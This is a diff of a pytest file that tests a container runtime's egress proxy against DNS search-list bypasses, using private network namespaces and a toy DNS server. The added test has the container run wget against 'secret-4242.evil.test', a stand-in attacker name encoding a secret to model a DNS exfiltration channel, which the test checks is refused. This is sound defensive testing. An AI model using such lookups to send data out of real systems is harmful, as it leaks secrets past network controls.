@@ -4,6 +4,7 @@ did from the record.  Each test is an attack that worked on an earlier version.
 
 The fixtures are test_egress.py's: names pinned to origins on the host's loopback (allowed
 there with allowAddresses, as a site lists its mirror).  No traffic leaves this machine."""
+import contextlib
 import json
 import socket
 import subprocess
@@ -143,40 +144,56 @@ srv.serve_forever()
 """
 
 
+@contextlib.contextmanager
+def netns(*ip_commands):
+    """A network namespace of the test's own, lo up, set up with these `ip` commands; yields
+    its name and removes it (and what runs in it is the caller's to end)."""
+    name = "srt-egress-" + uuid.uuid4().hex[:8]
+    subprocess.run(["ip", "netns", "add", name], check=True)
+    try:
+        subprocess.run(["ip", "-n", name, "-batch", "-"], text=True, check=True,
+                       input="\n".join(["link set lo up", *ip_commands]) + "\n")
+        yield name
+    finally:
+        subprocess.run(["ip", "netns", "del", name], check=True)
+
+
+@contextlib.contextmanager
+def running_in(name, script, *args):
+    """A Python program in network namespace `name`; yields it once it has printed its first
+    line (its marker: it is listening), with that line, and kills it after."""
+    p = subprocess.Popen(["nsenter", f"--net=/run/netns/{name}", "/usr/bin/python3", "-c",
+                          script, *args], stdout=subprocess.PIPE, text=True)
+    try:
+        yield p.stdout.readline().strip()
+    finally:
+        p.kill()
+        p.wait()
+
+
 @pytest.fixture
 def own_netns():
     """A network namespace of the test's own, standing for the host: seerun runs in it (so
     its proxy connects out from it), and so does an origin listening on every address of it.
     Its addresses look public (100.128/16 and above are outside 100.64/10): 70 on its
-    loopback interface, a whole /24 delivered locally by a `local` route (AnyIP), and one added while
-    the container runs.  Nothing leaves the namespace: it has no route out."""
-    name = "srt-egress-" + uuid.uuid4().hex[:8]
-    subprocess.run(["ip", "netns", "add", name], check=True)
-    origin_proc = None
-    try:
-        cmds = ["link set lo up",
-                "route add local 100.129.0.0/24 dev lo"]
-        cmds += [f"addr add 100.128.0.{i}/32 dev lo" for i in range(1, 71)]
-        subprocess.run(["ip", "-n", name, "-batch", "-"], input="\n".join(cmds) + "\n",
-                       text=True, check=True)
-        origin_proc = subprocess.Popen(
-            ["nsenter", f"--net=/run/netns/{name}", "/usr/bin/python3", "-c", NS_ORIGIN],
-            stdout=subprocess.PIPE, text=True)
-        port = int(origin_proc.stdout.readline())
-        yield name, port
-    finally:
-        if origin_proc:
-            origin_proc.kill()
-            origin_proc.wait()
-        subprocess.run(["ip", "netns", "del", name], check=True)
+    loopback interface, a whole /24 delivered locally by a `local` route (AnyIP), and one
+    added while the container runs.  Nothing leaves the namespace: it has no route out."""
+    cmds = ["route add local 100.129.0.0/24 dev lo"]
+    cmds += [f"addr add 100.128.0.{i}/32 dev lo" for i in range(1, 71)]
+    with netns(*cmds) as name, running_in(name, NS_ORIGIN) as port:
+        yield name, int(port)
 
 
-def run_in(netns, s, *args, timeout=60):
-    """seerun in that network namespace; stdio through a file, as Seerun.cmd (a detached
-    container keeps the runtime's stdio open)."""
+def run_in(ns, s, *args, resolv=None, timeout=60):
+    """seerun in network namespace ns (and, with resolv, in a mount namespace of its own where
+    that file is /etc/resolv.conf); stdio through a file, as Seerun.cmd (a detached container
+    keeps the runtime's stdio open)."""
+    argv = ["nsenter", f"--net=/run/netns/{ns}", SEERUN, *s.global_args, *args]
+    if resolv:
+        argv = ["unshare", "--mount", "--propagation", "slave", "sh", "-c",
+                'mount --bind "$1" /etc/resolv.conf && shift && exec "$@"', "sh", resolv, *argv]
     with tempfile.TemporaryFile("w+") as out:
-        p = subprocess.run(["nsenter", f"--net=/run/netns/{netns}", SEERUN, *s.global_args,
-                            *args], stdout=out, stderr=out, text=True, timeout=timeout,
+        p = subprocess.run(argv, stdout=out, stderr=out, text=True, timeout=timeout,
                            stdin=subprocess.DEVNULL)
         out.seek(0)
         return p.returncode, out.read()
@@ -215,3 +232,70 @@ def test_every_address_of_the_host_is_refused_not_only_the_first_64_listed_at_st
     lines = egress_lines(s)
     assert {l["host"]: (l["allowed"], l["reason"]) for l in lines} == {
         n: (False, f"{a} is an address of this host") for n, a in names.items()}, lines
+
+
+DNS_SERVER = r"""
+import socket, struct, sys
+answers = dict(a.split("=") for a in sys.argv[2:])
+log = open(sys.argv[1], "a", buffering=1)
+srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+srv.bind(("127.0.0.1", 53))
+print("ready", flush=True)
+while True:
+    q, peer = srv.recvfrom(512)
+    qid, flags = struct.unpack(">HH", q[:4])
+    i, labels = 12, []
+    while q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode())
+        i += 1 + q[i]
+    name = ".".join(labels).lower()
+    qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
+    question = q[12:i + 5]
+    log.write(f"{name} {qtype}\n")
+    a = answers.get(name)
+    rcode = 0 if a else 3
+    an = b""
+    if a and qtype == 1:
+        an = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton(a)
+    srv.sendto(struct.pack(">HHHHHH", qid, 0x8180 | rcode, 1, 1 if an else 0, 0, 0)
+               + question + an, peer)
+"""
+
+
+def test_a_name_is_resolved_as_itself_never_through_the_resolvers_search_list(
+        proxied, tmp_path):
+    """Attack: a name below an allowed `*.domain` that does not exist.  The proxy resolved
+    the name relative, as getaddrinfo does with a resolv.conf `search` list: after NXDOMAIN
+    (or first, under `ndots`) it asked for nx.wild.test.corp.test, another name that nobody
+    allowed, and connected to where that led.  A name with a dot is resolved as absolute now.
+
+    The resolver is the test's: a DNS server on 127.0.0.1:53 in a network namespace of the
+    test's own, where seerun runs, with a resolv.conf of the test's bound over /etc/resolv.conf
+    in a mount namespace of its own; it also shows which names the proxy asked for."""
+    queries = tmp_path / "queries"
+    queries.touch()
+    resolv = tmp_path / "resolv.conf"
+    resolv.write_text("nameserver 127.0.0.1\nsearch corp.test\noptions attempts:1\n")
+    with netns() as ns, running_in(ns, DNS_SERVER, str(queries),
+                                    "nx.wild.test.corp.test=127.0.0.1",
+                                    "real.wild.test=127.0.0.1"), \
+            running_in(ns, NS_ORIGIN) as port:
+        s, b = proxied
+        egress_policy(s, int(port))
+        b.shell(f"""
+            wget -q -O - http://real.wild.test:{port}/real 2>&1 | tail -1
+            wget -q -O - http://nx.wild.test:{port}/searched 2>&1 | tail -1
+            wget -q -O - http://secret-4242.evil.test:{port}/x 2>&1 | tail -1
+        """)
+        rc, out = run_in(ns, s, "run", "--bundle", b.write(), s.id(), resolv=str(resolv))
+    asked = queries.read_text().split("\n")
+    assert "origin saw /real on 127.0.0.1" in out, out
+    assert "origin saw /searched" not in out, out
+    assert "502 Bad Gateway" in out, out
+    names = {q.split()[0] for q in asked if q}
+    # Only the names judged allowed reach the resolver: none of the search list's, and a
+    # refused name (a DNS channel for data) never.
+    assert names == {"real.wild.test", "nx.wild.test"}, asked
+    lines = {l["host"]: l for l in egress_lines(s)}
+    assert lines["nx.wild.test"]["allowed"] is False, lines
+    assert lines["nx.wild.test"]["reason"] == "the name does not resolve", lines
